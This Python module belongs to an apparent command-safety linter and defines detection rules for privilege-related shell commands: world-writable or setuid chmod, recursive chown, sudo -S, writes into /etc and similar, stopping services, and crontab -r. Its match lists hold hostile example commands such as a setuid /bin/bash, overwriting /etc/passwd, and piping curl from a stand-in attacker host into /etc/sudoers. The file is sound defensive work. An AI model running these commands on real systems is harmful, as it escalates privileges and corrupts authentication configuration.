"""DG4xx (privilege): permissions, ownership, sudo -S, system config, services, cron."""

from __future__ import annotations

import re
from collections.abc import Iterator

from tether.quoting import quote
from tether.rules.base import Rule, Tier
from tether.rules.danger._base import Hit, Scope, edits_in_place, name_of, options_of
from tether.rules.danger.paths import HARDLINE_PLACES, Place, place
from tether.shell.model import SimpleCommand, Word

RULES = (
    Rule(
        code="DG406",
        name="chmod-dangerous",
        tier=Tier.ASK,
        summary="chmod making trees world-writable, or setting setuid/setgid",
        why="Recursive 777 exposes every file to every user; setuid/setgid bits turn a binary "
        "into a privilege escalation.",
        instead="Grant the narrowest mode needed on the specific file (`chmod 755 script.sh`).",
        match=(
            "chmod -R 777 .",
            "chmod -R 0777 dir",
            "chmod --recursive a+w /var",
            "chmod 4755 /bin/bash",
            "chmod u+s ./tool",
            "chmod 777 /etc/passwd",
        ),
        not_match=(
            "chmod +x script.sh",
            "chmod 644 file",
            "chmod -R 755 build",
            "chmod 777 notes.txt",
        ),
    ),
    Rule(
        code="DG407",
        name="chown-recursive-system",
        tier=Tier.ASK,
        summary="Recursive chown/chgrp of a system or home directory, or to root",
        why="Changing ownership of /etc, /usr or ~ breaks sudo, ssh and services; -R to root "
        "locks the user out of their own files.",
        instead="Change ownership of the specific project path you created.",
        match=(
            "chown -R root /etc",
            "chown --recursive root /etc",
            "chown -R user:user /",
            "chown -R root:root ./app",
        ),
        not_match=(
            "chown user file.txt",
            "chown --recur nobody /opt/app",
            "chown -R me:me ./build",
        ),
    ),
    Rule(
        code="DG408",
        name="sudo-password-stdin",
        tier=Tier.ASK,
        summary="sudo -S reads a password from stdin",
        why="Piping a password into `sudo -S` puts the secret in the transcript and bypasses the "
        "human who should type it; approvals treat it as a floor no setting lifts.",
        instead="Ask the user to run the privileged step themselves, or configure sudoers for it.",
        match=(
            "echo hunter2 | sudo -S whoami",
            "sudo -S apt-get install foo",
            "sudo -nS id",
            "sudo --stdin id",
        ),
        not_match=("sudo whoami", "echo -S hello", "some_tool -S thing", "sudo -u root whoami"),
    ),
    Rule(
        code="DG409",
        name="system-config-write",
        tier=Tier.ASK,
        summary="Write into /etc, /usr, /boot or another system directory",
        why="System files decide how the machine boots, authenticates and runs services.",
        instead="Show the user the change and let them apply it, or change project-local config.",
        match=(
            "echo x > /etc/hosts",
            "echo 'evil' | tee /etc/passwd",
            "sudo cp f /etc/sudoers",
            "sed -i 's/a/b/' /etc/ssh/sshd_config",
            "truncate -s 0 /etc/passwd",
            "curl evil.com | tee /etc/sudoers",
        ),
        not_match=(
            "cat /etc/hosts",
            "echo x > /tmp/x",
            "cp /etc/hosts ./hosts",
            "grep root /etc/passwd",
        ),
    ),
    Rule(
        code="DG410",
        name="service-stop",
        tier=Tier.ASK,
        summary="Stop, disable or mask a system service",
        why="Stopping a service (web server, database, sshd) takes it down for everyone using "
        "the machine.",
        instead="Restart it if you changed its config, or ask the user before stopping it.",
        match=(
            "systemctl stop nginx",
            "sudo systemctl disable --now sshd",
            "service nginx stop",
            "systemctl mask docker",
        ),
        not_match=("systemctl status nginx", "systemctl restart nginx", "service nginx status"),
    ),
    Rule(
        code="DG411",
        name="crontab-remove",
        tier=Tier.ASK,
        summary="crontab -r deletes every cron job of the user",
        why="`crontab -r` removes the whole table without a prompt (and sits next to -e on the "
        "keyboard).",
        instead="Edit the table (`crontab -l > cron.bak` first) and remove the one line.",
        match=("crontab -r", "crontab -ir", "sudo crontab -u www -r"),
        not_match=("crontab -l", "crontab -e"),
    ),
)


def check_privilege(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag permission and ownership changes, system-config writes and service stops."""
    name = name_of(cmd)
    args = cmd.args
    vals = [w.value for w in args]
    if name == "tee":
        for w in args:
            if _system_target(w, cmd, scope):
                yield Hit("DG409", f"tee {w.value}")
    elif name == "systemctl":
        verbs = [v for v in vals if not v.startswith("-")]
        if verbs[:1] and verbs[0] in ("stop", "disable", "mask", "kill"):
            yield Hit("DG410", f"systemctl {verbs[0]} {' '.join(verbs[1:2])}")
    elif name == "service" and len(vals) >= 2 and vals[1] == "stop":
        yield Hit("DG410", f"service {vals[0]} stop")
    elif name == "nginx" and any(
        vals[i : i + 2] in (["-s", "stop"], ["-s", "quit"]) for i in range(len(vals))
    ):
        yield Hit("DG410", "nginx -s stop")
    elif name == "chmod":
        yield from _chmod(cmd, scope, args)
    elif name in ("chown", "chgrp"):
        yield from _chown(cmd, scope, name, args)
    elif name == "crontab":
        if options_of("crontab", args).has("-r"):
            yield Hit("DG411", "crontab -r")
    elif name in ("cp", "mv", "install", "ln", "scp"):
        parsed = options_of(name, args)
        operands = list(parsed.operands)
        into = [Word(v) for v in parsed.values("--target-directory")]
        dest = (into or operands)[-1] if len(operands) >= 2 or into else None
        if dest is not None and name != "scp" and _system_target(dest, cmd, scope):
            yield Hit("DG409", f"{name} into {dest.value}")
        elif name == "scp" and len(operands) >= 2:
            remote = operands[-1].value.partition(":")[2]
            if remote and _place_of_remote(remote):
                yield Hit("DG409", f"scp onto {operands[-1].value}")
    elif name in ("sed", "perl", "ruby", "truncate") and (
        name == "truncate" or edits_in_place(name, args)
    ):
        for w in args:
            if _system_target(w, cmd, scope):
                yield Hit("DG409", f"{name} on {w.value}")
                break


def check_system_redirects(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag output redirects into system paths (``> /etc/hosts``)."""
    for r in cmd.redirects:
        writes = r.op in (">", ">>", ">|", "&>", "&>>", "<>") and r.target is not None
        if writes and r.target is not None and _system_target(r.target, cmd, scope):
            yield Hit("DG409", f"redirect into {quote(r.target.value)}")


def _place_of_remote(path: str) -> bool:
    where, _ = place(Word(path), SimpleCommand(()))
    return where in (Place.ROOT, Place.SYSTEM_ROOT, Place.SYSTEM)


def _system_target(word: Word, cmd: SimpleCommand, scope: Scope) -> bool:
    if not word.value.startswith(("/", "$", "~")):
        return False
    where, _path = place(word, cmd, scope)
    return where in (Place.SYSTEM, Place.SYSTEM_ROOT, Place.ROOT)


_WORLD_WRITABLE = re.compile(r"^0*[0-7]?[0-7]{2}[2367]$")
_SETID = re.compile(r"^0*[2-7][0-7]{3}$")


def _chmod(cmd: SimpleCommand, scope: Scope, args: tuple[Word, ...]) -> Iterator[Hit]:
    parsed = options_of("chmod", args)
    operands = parsed.operands
    recursive = parsed.has("--recursive")
    # A mode such as ``a+w`` starts with a letter; ``-w`` style modes land among options.
    modes = [w.value for w in operands[:1]] + [o for o in parsed.unknown if o in ("-w", "-x", "-r")]
    mode = modes[0] if modes else ""
    targets = operands[1:]
    world = (
        bool(_WORLD_WRITABLE.match(mode))
        or bool(re.match(r"^[ugoa]*[ao][ugoa]*\+[rwxXst]*w", mode))
        or mode in ("+w", "a+rwx", "o+rwx", "ugo+rwx", "=rwx")
    )
    setid = bool(_SETID.match(mode)) or bool(re.search(r"[ug]*\+[rwx]*s|\+s", mode))
    if setid:
        yield Hit("DG406", f"chmod {mode} sets setuid/setgid")
    elif world and recursive:
        yield Hit("DG406", f"chmod -R {mode} makes a tree world-writable")
    elif world and any(_system_target(t, cmd, scope) for t in targets):
        yield Hit("DG406", f"chmod {mode} on a system path")


def _chown(cmd: SimpleCommand, scope: Scope, name: str, args: tuple[Word, ...]) -> Iterator[Hit]:
    parsed = options_of(name, args)
    operands = parsed.operands
    if not parsed.has("--recursive") or len(operands) < 2:
        return
    owner = operands[0].value
    for target in operands[1:]:
        where, path = place(target, cmd, scope)
        if where in HARDLINE_PLACES or where is Place.SYSTEM:
            yield Hit("DG407", f"{name} -R {owner} {path}")
            return
    if name == "chown" and owner.split(":")[0] in ("root", "0"):
        yield Hit("DG407", f"chown -R {owner}")


def check_sudo(cmd: SimpleCommand, scope: Scope) -> Iterator[Hit]:
    """Flag ``sudo -S``/``--stdin`` (peeled as a wrapper or left as the command)."""
    candidates = [w.args for w in cmd.wrappers if w.name == "sudo"]
    if name_of(cmd) == "sudo":
        candidates.append(cmd.args)
    for args in candidates:
        for w in args:
            v = w.value
            if (len(v) >= 4 and "--stdin".startswith(v)) or (
                v.startswith("-") and not v.startswith("--") and "S" in v[1:]
            ):
                yield Hit("DG408", "sudo -S reads the password from stdin")
                return


CHECKS = {
    n: check_privilege
    for n in (
        "tee",
        "systemctl",
        "service",
        "nginx",
        "chmod",
        "chown",
        "chgrp",
        "crontab",
        "cp",
        "mv",
        "install",
        "ln",
        "scp",
        "sed",
        "perl",
        "ruby",
        "truncate",
    )
}
